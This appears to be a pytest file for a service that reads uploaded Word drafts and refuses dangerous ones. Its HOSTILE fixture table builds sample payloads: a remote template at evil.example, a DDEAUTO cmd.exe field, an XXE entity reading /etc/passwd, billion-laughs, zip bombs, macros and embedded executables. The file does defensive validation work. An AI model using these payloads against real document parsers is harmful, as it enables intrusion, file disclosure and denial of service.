"""Drafts that strangers hand in: what is read, and what is refused with its reason (HAND-27, Q-48)."""

from __future__ import annotations

import contextlib
import io
import os
import random
import struct
import subprocess
import sys
import tempfile
import zipfile

import docx
import pytest

from fondaco.makers.rules.difference import Kind, difference
from fondaco.makers.rules.word import Limits, WrongDocument, read_draft
from fondaco.makers.tests.factories import word

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = f'<Types xmlns="x"><Override PartName="/word/document.xml" ContentType="{MAIN}"/></Types>'
BODY = f"<w:document {W}><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>"


def package(*, types: str = TYPES, body: str = BODY, **more: str | bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", types)
        file.writestr("word/document.xml", body)
        for name, data in more.items():
            file.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def rels(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationships xmlns="r"><Relationship Id="a" Type="http://t/{kind}" Target="{target}"{mode}/></Relationships>'


def compound(*names: str, text: str = "") -> bytes:
    """A small compound file with these streams; a real piece table if there is text."""
    sector = 512
    streams: list[tuple[str, bytes]] = []
    document = bytearray(1024)
    if text:
        encoded = text.encode("utf-16-le")
        clx = (
            b"\x02"
            + struct.pack("<I", 16)
            + struct.pack("<II", 0, len(text))
            + b"\0\0"
            + struct.pack("<I", 1024)
            + b"\0\0"
        )
        struct.pack_into("<H", document, 10, 0x0200)
        struct.pack_into("<i", document, 76, len(text))
        struct.pack_into("<II", document, 418, 0, len(clx))
        streams += [("WordDocument", bytes(document) + encoded + b"\0" * 4096), ("1Table", clx + b"\0" * 4096)]
    streams += [(name, b"\0" * 4096) for name in names]
    fat: list[int] = [0xFFFFFFFD]
    blob, where = bytearray(), []
    for _name, data in streams:
        count = -(-len(data) // sector)
        first = len(fat)
        fat += [first + n + 1 for n in range(count - 1)] + [0xFFFFFFFE]
        blob += data.ljust(count * sector, b"\0")
        where.append((first, len(data)))
    entries = [("Root Entry", 5, 0xFFFFFFFE, 0, 0xFFFFFFFF, 1 if streams else 0xFFFFFFFF)]
    for n, ((name, _data), (first, size)) in enumerate(zip(streams, where, strict=True), start=1):
        entries.append((name, 2, first, size, n + 1 if n < len(streams) else 0xFFFFFFFF, 0xFFFFFFFF))
    directory = bytearray()
    for name, kind, first, size, right, child in entries:
        raw = name.encode("utf-16-le")
        entry = bytearray(128)
        entry[: len(raw)] = raw
        struct.pack_into("<HB", entry, 64, len(raw) + 2, kind)
        struct.pack_into("<III", entry, 68, 0xFFFFFFFF, right, child)
        struct.pack_into("<II", entry, 116, first, size)
        directory += entry
    directory = directory.ljust(-(-len(directory) // sector) * sector, b"\0")
    start = len(fat)
    count = len(directory) // sector
    fat += [start + n + 1 for n in range(count - 1)] + [0xFFFFFFFE]
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<II", header, 44, 1, start)
    struct.pack_into("<IIIII", header, 56, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<109I", header, 76, 0, *([0xFFFFFFFF] * 108))
    table = struct.pack("<128I", *(fat + [0xFFFFFFFF] * 128)[:128])
    return bytes(header) + table + bytes(blob) + bytes(directory)


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", TYPES)
        file.writestr("word/document.xml", b"<a>" + b" " * (300 * 1024 * 1024))
    return out.getvalue()


def lying_bomb() -> bytes:
    """A small size in the directory, three hundred megabytes behind it."""
    data = bytearray(bomb())
    real = struct.pack("<I", 300 * 1024 * 1024 + 3)
    while (at := data.find(real)) >= 0:
        data[at : at + 4] = struct.pack("<I", 100)
    return bytes(data)


def pages(count: int) -> str:
    paragraph = "<w:p><w:r><w:t>" + "Words about pots. " * 12 + "</w:t></w:r></w:p>"
    return f"<w:document {W}><w:body>{paragraph * (count * 14)}</w:body></w:document>"


HOSTILE: dict[str, tuple[object, str]] = {
    "pdf with a Word name": (lambda: b"%PDF-1.7\n", "draft_not_word"),
    "program": (lambda: b"MZ\x90\0", "draft_not_word"),
    "nothing": (lambda: b"", "draft_empty"),
    "half a file": (lambda: word()[:600], "draft_broken"),
    "spreadsheet": (lambda: package(types=TYPES.replace("wordprocessingml", "spreadsheetml")), "draft_not_word"),
    "macro file renamed": (
        lambda: package(types=TYPES.replace(MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")),
        "draft_has_macros",
    ),
    "macros inside": (lambda: package(word__vbaProject_bin=b"x").replace(b"vbaProject_bin", b"vbaProject.bin"), "draft_has_macros"),
    "embedded program": (lambda: package(word__embeddings__oleObject1_bin=b"MZ"), "draft_has_program"),
    "control": (lambda: package(word__activeX__activeX1_xml="<x/>"), "draft_has_program"),
    "remote template": (
        lambda: package(**{"word___rels__settings.xml.rels": rels("attachedTemplate", "https://evil.example/a.dotm")}),
        "draft_fetches",
    ),
    "linked picture": (
        lambda: package(**{"word___rels__document.xml.rels": rels("image", "https://evil.example/a.png")}),
        "draft_fetches",
    ),
    "link that runs": (
        lambda: package(**{"word___rels__document.xml.rels": rels("hyperlink", "javascript:alert(1)")}),
        "draft_fetches",
    ),
    "other format inside": (
        lambda: package(**{"word___rels__document.xml.rels": rels("aFChunk", "a.html", external=False)}),
        "draft_fetches",
    ),
    "field that runs": (
        lambda: package(body=BODY.replace("<w:r>", '<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/><w:r>')),
        "draft_fetches",
    ),
    "external entity": (
        lambda: package(body='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + BODY.replace("Hello", "&x;")),
        "draft_declares_entities",
    ),
    "billion laughs": (
        lambda: package(body='<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>' + BODY.replace("Hello", "&b;")),
        "draft_declares_entities",
    ),
    "zip bomb": (bomb, "draft_unpacks_too_large"),
    "zip bomb that lies": (lying_bomb, "draft_broken"),
    "ten thousand pages": (lambda: package(body=pages(10_000)), "draft_too_long"),
    "two hundred pages": (lambda: package(body=pages(200)), "draft_too_long"),
    "deep": (lambda: package(body="<a>" * 5_000 + "</a>" * 5_000), "draft_broken"),
    "many parts": (lambda: package(**{f"p{n}": "" for n in range(2_500)}), "draft_unpacks_too_large"),
    "old Word with macros": (lambda: compound("Macros", "VBA", text="Hello\r"), "draft_has_macros"),
    "old Word with an object": (lambda: compound("ObjectPool", text="Hello\r"), "draft_has_program"),
    "old file that is no Word": (lambda: compound("Workbook"), "draft_not_word"),
    "protected": (lambda: compound("EncryptedPackage"), "draft_encrypted"),
}  # fmt: skip


@pytest.mark.spec("HAND-27", "Q-48")
@pytest.mark.parametrize("name", list(HOSTILE))
def test_refuses_what_no_draft_may_be(name):
    make, code = HOSTILE[name]
    with pytest.raises(WrongDocument) as refused:
        read_draft(make())
    assert refused.value.code == code or (name == "zip bomb that lies" and refused.value.code.startswith("draft_"))


@pytest.mark.spec("HAND-27", "Q-48")
def test_reads_a_word_document_by_its_content():
    document = docx.Document()
    document.add_paragraph("Juniper Clay opens its kiln.")
    document.add_table(1, 1).rows[0].cells[0].text = "In a cell"
    out = io.BytesIO()
    document.save(out)
    draft = read_draft(out.getvalue())
    assert (draft.kind, draft.paragraphs) == ("docx", ("Juniper Clay opens its kiln.", "In a cell"))
    old = read_draft(compound(text="First\rSecond\r"))
    assert (old.kind, old.paragraphs) == ("doc", ("First", "Second"))


@pytest.mark.spec("B-HAND-17")
def test_tracked_changes_are_read_as_they_stand_and_noted():
    body = f"<w:document {W}><w:body><w:p><w:del><w:r><w:delText>old</w:delText></w:r></w:del><w:ins><w:r><w:t>new</w:t></w:r></w:ins></w:p></w:body></w:document>"
    draft = read_draft(package(body=body))
    assert (draft.paragraphs, draft.has_tracked_changes) == (("new",), True)


def test_a_format_that_policy_leaves_out_is_refused():
    with pytest.raises(WrongDocument) as refused:
        read_draft(compound(text="Hello\r"), limits=Limits(formats=frozenset({"docx"})))
    assert refused.value.code == "draft_format_not_allowed"


def test_random_damage_is_refused_and_never_a_crash():
    rng = random.Random(7)
    for good in (word("One", "Two"), compound(text="First\rSecond\r")):
        for _n in range(250):
            data = bytearray(good)
            for _m in range(rng.randint(1, 12)):
                data[rng.randrange(len(data))] = rng.randrange(256)
            with contextlib.suppress(WrongDocument):  # anything else is a crash
                read_draft(bytes(data[: rng.randint(1, len(data))]))


MEASURED = """
import resource, sys
from fondaco.makers.rules.word import WrongDocument, read_draft
data = open(sys.argv[1], "rb").read()
before = resource.getrusage(resource.RUSAGE_SELF)
try:
    read_draft(data)
except WrongDocument as refused:
    code = refused.code
after = resource.getrusage(resource.RUSAGE_SELF)
peak = next(int(l.split()[1]) for l in open("/proc/self/status") if l.startswith("VmHWM"))
print(code, peak, after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime)
"""


@pytest.mark.spec("Q-48")
@pytest.mark.parametrize("name", list(HOSTILE))
def test_each_is_refused_under_two_hundred_megabytes_and_five_seconds(name):
    """In a process of its own: its peak memory, interpreter included, and the processor time of reading."""
    with tempfile.NamedTemporaryFile() as file:
        file.write(HOSTILE[name][0]())
        file.flush()
        ran = subprocess.run(
            [sys.executable, "-c", MEASURED, file.name],
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
            env=dict(os.environ),
        )
    assert ran.returncode == 0, ran.stderr[-500:]
    code, peak_kb, seconds = ran.stdout.split()
    assert code.startswith("draft_")
    assert int(peak_kb) < 200 * 1024
    assert float(seconds) < 5


@pytest.mark.spec("HAND-29")
def test_the_difference_gives_both_texts_back():
    before = ["Juniper Clay opens.", "The best pottery is here.", "Goodbye"]
    after = ["Juniper Clay opens.", "The finest pottery is here now.", "A new line", "Goodbye"]
    changes = difference(before, after)
    old = ["".join(p.text for p in c.pieces if p.kind is not Kind.ADDED) for c in changes]
    new = ["".join(p.text for p in c.pieces if p.kind is not Kind.TAKEN) for c in changes]
    assert [t for t in old if t] == before
    assert [t for t in new if t] == after
    assert [c.kind for c in changes] == [Kind.SAME, Kind.CHANGED, Kind.ADDED, Kind.SAME]
